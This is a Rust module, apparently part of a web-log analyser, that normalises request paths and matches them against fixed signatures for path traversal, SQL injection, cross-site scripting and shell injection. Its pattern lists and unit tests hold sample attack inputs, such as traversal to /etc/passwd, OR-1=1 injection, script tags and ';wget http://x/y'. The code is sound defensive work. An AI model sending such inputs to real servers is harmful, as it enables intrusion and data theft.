//! Attack signatures matched in request paths and queries. The text is normalised first:
//! percent-decoded twice (to catch double encoding), `+` read as a space, lower-cased.
//! Every signature is a fixed string listed here and in `docs/logs.md`; all of them are
//! compiled into one Aho-Corasick automaton, so a line is scanned once.

/// A signature detector: its name and fixed patterns (lower case).
pub struct Detector {
    pub name: &'static str,
    pub what: &'static str,
    pub patterns: &'static [&'static str],
}

/// The signature detectors, in report order.
pub const DETECTORS: [Detector; 4] = [
    Detector {
        name: "path_traversal",
        what: "path traversal",
        patterns: &[
            "../",
            "..\\",
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/",
            "c:\\windows",
            "win.ini",
            "\0",
        ],
    },
    Detector {
        name: "sql_injection",
        what: "SQL injection",
        patterns: &[
            "union select",
            "union all select",
            "' or '",
            "\" or \"",
            "' or 1=1",
            " or 1=1",
            "'--",
            "sleep(",
            "benchmark(",
            "waitfor delay",
            "information_schema",
            "xp_cmdshell",
            "select * from",
            "drop table",
            "extractvalue(",
            "updatexml(",
            "load_file(",
            "@@version",
        ],
    },
    Detector {
        name: "xss",
        what: "cross-site scripting",
        patterns: &[
            "<script",
            "</script",
            "javascript:",
            "onerror=",
            "onload=",
            "onmouseover=",
            "<svg",
            "<iframe",
            "alert(",
            "document.cookie",
            "prompt(",
        ],
    },
    Detector {
        name: "shell_injection",
        what: "shell injection",
        patterns: &[
            ";wget",
            "|wget",
            "; wget",
            ";curl",
            "|curl",
            "; curl",
            "$(",
            "`",
            "/bin/sh",
            "/bin/bash",
            "cmd.exe",
            "powershell",
            ";cat ",
            "|cat ",
            "${ifs}",
            "nc -e",
            ";id;",
            ";uname",
            "() {",
        ],
    },
];

/// Writes the normalised `path?query` into `out` (cleared first).
pub fn normalise(path: &[u8], query: &[u8], out: &mut Vec<u8>, tmp: &mut Vec<u8>) {
    tmp.clear();
    tmp.extend_from_slice(path);
    if !query.is_empty() {
        tmp.push(b'?');
        tmp.extend(query.iter().map(|&c| if c == b'+' { b' ' } else { c }));
    }
    percent_decode(tmp, out);
    if memchr::memchr(b'%', out).is_some() {
        std::mem::swap(tmp, out);
        percent_decode(tmp, out);
    }
    out.make_ascii_lowercase();
}

fn percent_decode(src: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let mut i = 0;
    while i < src.len() {
        if src[i] == b'%' && i + 2 < src.len() {
            if let (Some(h), Some(l)) = (hex(src[i + 1]), hex(src[i + 2])) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        out.push(src[i]);
        i += 1;
    }
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// All signatures of all detectors in one automaton.
pub struct Matcher {
    ac: Option<aho_corasick::AhoCorasick>,
    /// For each automaton pattern: (detector index, pattern index in the detector).
    ids: Vec<(usize, usize)>,
}

impl Matcher {
    pub fn new() -> Matcher {
        let mut pats = Vec::new();
        let mut ids = Vec::new();
        for (d, det) in DETECTORS.iter().enumerate() {
            for (p, pat) in det.patterns.iter().enumerate() {
                pats.push(*pat);
                ids.push((d, p));
            }
        }
        // The patterns are fixed strings from this file, so building does not fail;
        // `None` (never matching) keeps that an invariant rather than a panic.
        Matcher {
            ac: aho_corasick::AhoCorasick::new(pats).ok(),
            ids,
        }
    }

    /// For each detector, the index of its first-listed pattern found in `text`.
    pub fn matches(&self, text: &[u8]) -> [Option<usize>; DETECTORS.len()] {
        let mut out = [None; DETECTORS.len()];
        let Some(ac) = &self.ac else { return out };
        for m in ac.find_overlapping_iter(text) {
            let (d, p) = self.ids[m.pattern().as_usize()];
            out[d] = Some(out[d].map_or(p, |q: usize| q.min(p)));
        }
        out
    }
}

impl Default for Matcher {
    fn default() -> Self {
        Matcher::new()
    }
}

/// The index of the first pattern of detector `d` found in `text`.
#[cfg(test)]
fn first_match(d: usize, text: &[u8]) -> Option<usize> {
    Matcher::new().matches(text)[d]
}

/// Fixed substrings that mark a login-like path (matched lower-cased).
pub const LOGIN_HINTS: [&str; 9] = [
    "login", "signin", "sign-in", "sign_in", "logon", "auth", "session", "token", "xmlrpc",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(path: &str, query: &str) -> Vec<u8> {
        let (mut out, mut tmp) = (Vec::new(), Vec::new());
        normalise(path.as_bytes(), query.as_bytes(), &mut out, &mut tmp);
        out
    }

    #[test]
    fn decodes_twice_and_lowercases() {
        assert_eq!(norm("/a/%252e%252e%252fetc", ""), b"/a/../etc");
        assert_eq!(norm("/s", "q=UNION+SELECT%20x"), b"/s?q=union select x");
        assert_eq!(norm("/bad%zz%4", ""), b"/bad%zz%4");
    }

    #[test]
    fn detectors_fire_on_their_signatures_only() {
        let hit = |i: usize, p: &str, q: &str| first_match(i, &norm(p, q)).is_some();
        assert!(hit(0, "/static/..%2f..%2fetc/passwd", ""));
        assert!(hit(1, "/item", "id=1%27%20OR%20%271%27=%271"));
        assert!(hit(2, "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"));
        assert!(hit(3, "/cgi-bin/x", "cmd=;wget%20http://x/y"));
        for i in 0..4 {
            assert!(
                !hit(i, "/products/shoes", "color=red&size=42&sort=price"),
                "{i}"
            );
        }
    }
}
